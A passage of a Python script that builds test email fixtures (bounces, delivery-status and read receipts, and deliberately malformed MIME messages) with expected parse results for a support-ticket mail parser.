--ndr-b
Content-Type: message/delivery-status

Reporting-MTA: dns;exchange.example.co.il
Received-From-MTA: dns;amends.localhost
Arrival-Date: Thu, 13 Mar 2025 09:00:00 +0000

Original-Recipient: rfc822;Miri@Example.co.il
Final-Recipient: rfc822;miri.k@example.co.il
Action: failed
Status: 5.2.2
Diagnostic-Code: smtp;554 5.2.2 mailbox full

--ndr-b
Content-Type: text/rfc822-headers

Received: from amends.localhost (127.0.0.1) by exchange.example.co.il
From: Amends Support <support@amends.localhost>
To: Miri@Example.co.il
Subject: [#2008] Your case was transferred
Message-ID:
 <case-2008.msg-4@amends.localhost>
Date: Thu, 13 Mar 2025 11:00:00 +0200

--ndr-b--
""",
    ),
    subject="לא נמסר: [#2008] פנייתך הועברה",
    from_address="postmaster@exchange.example.co.il",
    automatic=True,
    bounce=True,
    bounced_message_id="case-2008.msg-4@amends.localhost",
    bounced_recipients=["miri@example.co.il", "miri.k@example.co.il"],
    language="he",
)

add(
    "bounce-qmail-failure-notice",
    "bounce",
    mail(
        """Return-Path: <>
From: MAILER-DAEMON@mx.example.org
To: support@amends.localhost
Subject: failure notice
Message-ID: <qmail-ndr@mx.example.org>
Date: Thu, 13 Mar 2025 12:00:00 +0000""",
        """Hi. This is the qmail-send program at mx.example.org.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<ghost@example.org>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

Return-Path: <support@amends.localhost>
Received: (qmail 1234 invoked from network); 13 Mar 2025 11:59:59 -0000
Message-ID: <case-3110.msg-2@amends.localhost>
From: Amends Support <support@amends.localhost>
To: ghost@example.org
Subject: [#3110] Resolution summary

Your case has been resolved.
""",
        crlf=False,
    ),
    subject="failure notice",
    from_address="mailer-daemon@mx.example.org",
    return_path="",
    automatic=True,
    bounce=True,
    bounced_message_id="case-3110.msg-2@amends.localhost",
    bounced_recipients=["ghost@example.org"],
    language="en",
)

add(
    "bounce-exim-original-attached",
    "bounce",
    mail(
        """Return-Path: <>
From: Mail Delivery System <Mailer-Daemon@mx.example.com>
To: support@amends.localhost
Subject: Mail delivery failed: returning message to sender
Message-ID: <exim-ndr@mx.example.com>
Date: Thu, 13 Mar 2025 13:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="exim-b\"""",
        """--exim-b
Content-Type: text/plain; charset=us-ascii

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  olga.k@example.com
    host mx.example.com [192.0.2.10]
    SMTP error from remote mail server after RCPT TO:<olga.k@example.com>:
    550 5.1.1 User unknown
--exim-b
Content-Type: message/rfc822

Message-ID: <case-4010.msg-1@amends.localhost>
From: Amends Support <support@amends.localhost>
To: olga.k@example.com
Subject: [#4010] Ваша жалоба получена

body
--exim-b--
""",
    ),
    subject="Mail delivery failed: returning message to sender",
    from_address="mailer-daemon@mx.example.com",
    return_path="",
    automatic=True,
    bounce=True,
    bounced_message_id="case-4010.msg-1@amends.localhost",
    bounced_recipients=["olga.k@example.com"],
    attachments=["forwarded.eml"],
    language="en",
)

add(
    "dsn-delayed-not-a-bounce",
    "bounce",
    mail(
        """Return-Path: <>
From: MAILER-DAEMON@mx.example.net
To: support@amends.localhost
Subject: Delayed Mail (still being retried)
Message-ID: <delay@mx.example.net>
Date: Thu, 13 Mar 2025 14:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary=dly""",
        """--dly
Content-Type: text/plain

Your message has not been delivered yet. It will be retried.
--dly
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.net

Final-Recipient: rfc822; slow@example.net
Action: delayed
Status: 4.4.1
--dly
Content-Type: text/rfc822-headers

Message-ID: <case-1050.msg-2@amends.localhost>
--dly--
""",
    ),
    subject="Delayed Mail (still being retried)",
    from_address="mailer-daemon@mx.example.net",
    return_path="",
    automatic=True,
    bounce=False,
    language="en",
)

add(
    "read-receipt-mdn",
    "bounce",
    mail(
        f"""From: Customer <customer@example.com>
To: {OURS}
Subject: Read: [#1051] Your complaint
Message-ID: <mdn@example.com>
Date: Thu, 13 Mar 2025 15:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/report; report-type=disposition-notification; boundary=mdn""",
        """--mdn
Content-Type: text/plain; charset=utf-8

Your message was displayed.
--mdn
Content-Type: message/disposition-notification

Reporting-UA: example.com; Mail Client
Final-Recipient: rfc822; customer@example.com
Original-Message-ID: <case-1051.msg-1@amends.localhost>
Disposition: manual-action/MDN-sent-manually; displayed
--mdn--
""",
    ),
    subject="Read: [#1051] Your complaint",
    from_address="customer@example.com",
    automatic=True,
    bounce=False,
    language="en",
    text="Your message was displayed.",
)

# ---------------------------------------------------------------------------------------------
# Malformed mail

add(
    "malformed-missing-boundary",
    "malformed",
    mail(
        f"""From: Boris <boris@example.ru>
To: {OURS}
Subject: no boundary
Message-ID: <no-boundary@example.ru>
Date: Fri, 14 Mar 2025 09:00:00 +0300
MIME-Version: 1.0
Content-Type: multipart/mixed""",
        f"""--XYZ123
Content-Type: text/plain; charset=utf-8

Текст жалобы: чек не выдали.
--XYZ123
Content-Type: application/pdf; name="check.pdf"
Content-Transfer-Encoding: base64

{b64(PDF)}
--XYZ123--
""".encode(),
    ),
    subject="no boundary",
    from_address="boris@example.ru",
    language="ru",
    text="Текст жалобы: чек не выдали.",
    attachments=["check.pdf"],
    warnings=True,
)

add(
    "malformed-wrong-boundary",
    "malformed",
    mail(
        f"""From: Nina <nina@example.com>
To: {OURS}
Subject: wrong boundary
Message-ID: <wrong-boundary@example.com>
Date: Fri, 14 Mar 2025 09:30:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="AAA\"""",
        f"""--BBB
Content-Type: text/plain; charset=utf-8

The boundary in the header is wrong.
--BBB
Content-Type: image/png; name=screen.png
Content-Transfer-Encoding: base64

{b64(b"\x89PNG\r\n\x1a\nfake")}
--BBB--
""",
    ),
    subject="wrong boundary",
    from_address="nina@example.com",
    language="en",
    text="The boundary in the header is wrong.",
    attachments=["screen.png"],
    warnings=True,
)

add(
    "malformed-bad-base64",
    "malformed",
    mail(
        f"""From: Omer <omer@example.co.il>
To: {OURS}
Subject: bad base64
Message-ID: <bad-b64@example.co.il>
Date: Fri, 14 Mar 2025 10:00:00 +0200
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=bb""",
        f"""--bb
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{b64("המשלוח הגיע פגום לחלוטין ואני רוצה החזר".encode()).rstrip()[:-6]}
--bb
Content-Type: application/pdf; name=scan.pdf
Content-Transfer-Encoding: base64

JVBER!!i0xLjQK==JVBERi0x
***
--bb--
""".encode(),
    ),
    subject="bad base64",
    from_address="omer@example.co.il",
    language="he",
    text_contains=["המשלוח הגיע פגום"],
    attachments=["scan.pdf"],
    warnings=True,
    warnings_contain=["damaged base64"],
)

add(
    "malformed-truncated-mail",
    "malformed",
    mail(
        f"""From: Vera <vera@example.ru>
To: {OURS}
Subject: {word("Обрыв письма")}
Message-ID: <truncated@example.ru>
Date: Fri, 14 Mar 2025 10:30:00 +0300
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="trunc\"""",
        f"""--trunc
Content-Type: text/plain; charset=utf-8

Письмо оборвалось на вложении.
--trunc
Content-Type: application/pdf; name="long.pdf"
Content-Transfer-Encoding: base64

{b64(PDF * 20)[:301]}""".encode(),
    ),
    subject="Обрыв письма",
    from_address="vera@example.ru",
    language="ru",
    text="Письмо оборвалось на вложении.",
    attachments=["long.pdf"],
    warnings=True,
)


def nested(depth: int) -> str:
    head = "".join(
        f"Content-Type: multipart/mixed; boundary=n{level}\n\n--n{level}\n" for level in range(depth)
    )
    tail = "".join(f"\n--n{level}--" for level in reversed(range(depth)))
    return head + "Content-Type: text/plain\n\ndeep inside" + tail + "\n"


add(
    "malformed-absurd-nesting",
    "malformed",
    mail(
        f"""From: Deep <deep@example.com>
To: {OURS}
Subject: nesting
Message-ID: <nesting@example.com>
Date: Fri, 14 Mar 2025 11:00:00 +0000
MIME-Version: 1.0""",
        nested(150),
    ).replace(
        b"MIME-Version: 1.0\r\n\r\n", b"MIME-Version: 1.0\r\n", 1
    ),  # the first Content-Type is a header
    subject="nesting",
    from_address="deep@example.com",
    language="en",
    text_contains=["deep inside"],
    warnings=True,
    warnings_contain=["nesting deeper than"],
)

add(
    "malformed-no-headers",
    "malformed",
    b"Hello, this mail has no headers at all.\r\nJust a complaint about the noise.\r\n",
    subject="",
    from_address="",
    language="en",
    text="Hello, this mail has no headers at all.\nJust a complaint about the noise.",
    warnings=True,
)

add(
    "malformed-headers-only",
    "malformed",
    b"From: Only Headers <only@example.com>\r\nSubject: headers only, no body\r\nMessage-ID: <hdr@example.com>",
    subject="headers only, no body",
    from_address="only@example.com",
    language="en",
    text="",
)

add(
    "malformed-binary-garbage",
    "malformed",
    b"\x00\xff\xfe\x01From: \xc3\x28 <x@example.com>\r\nSubject: \xff\xfe\x00junk\r\n\r\n\x00\x01\x02\xfe\xff\x80\x81",
    warnings=True,
)

add(
    "malformed-mbox-from-line-lf",
    "malformed",
    mail(
        f"""From customer@example.com Fri Mar 14 12:00:00 2025
From: Customer <customer@example.com>
To: {OURS}
Subject: mbox style
Message-ID: <mbox@example.com>
Date: Fri, 14 Mar 2025 12:00:00 +0000""",
        """>From the start, the service was slow.
I want to complain.
""",
        crlf=False,
    ),
    subject="mbox style",
    from_address="customer@example.com",
    language="en",
    text=">From the start, the service was slow.\nI want to complain.",
)

add(
    "malformed-content-type-garbage",
    "malformed",
    mail(
        f"""From: Gal <gal@example.co.il>
To: {OURS}
Subject: broken params
Message-ID: <ct-garbage@example.co.il>
Date: Fri, 14 Mar 2025 12:30:00 +0200
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8; format=flowed
Content-Transfer-Encoding: x-gzip64""",
        "הפרמטרים בכותרת שבורים.\x00".encode(),
    ),
    subject="broken params",
    from_address="gal@example.co.il",
    language="he",
    text="הפרמטרים בכותרת שבורים.",
    warnings=True,
    warnings_contain=["unknown transfer encoding"],
)

add(
    "malformed-multipart-base64-cte",
    "malformed",
    mail(
        f"""From: Kim <kim@example.com>
To: {OURS}
Subject: multipart with a transfer encoding
Message-ID: <mp-cte@example.com>
Date: Fri, 14 Mar 2025 13:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary=alt
Content-Transfer-Encoding: base64""",
        """--alt
Content-Type: text/plain; charset=utf-8

The outer part claims base64.
--alt--
""",
    ),
    subject="multipart with a transfer encoding",
    from_address="kim@example.com",
    language="en",
    text="The outer part claims base64.",
    warnings=True,
)


def main() -> None:
    names = set()
    for name, raw, expect in MAILS:
        assert name not in names, name
        names.add(name)
        (HERE / f"{name}.eml").write_bytes(raw)
        (HERE / f"{name}.json").write_text(
            json.dumps(expect, ensure_ascii=False, indent=2) + "\n", encoding="utf-8"
        )
    sys.stdout.write(f"{len(MAILS)} mails written to {HERE}\n")


if __name__ == "__main__":
    import sys

    main()
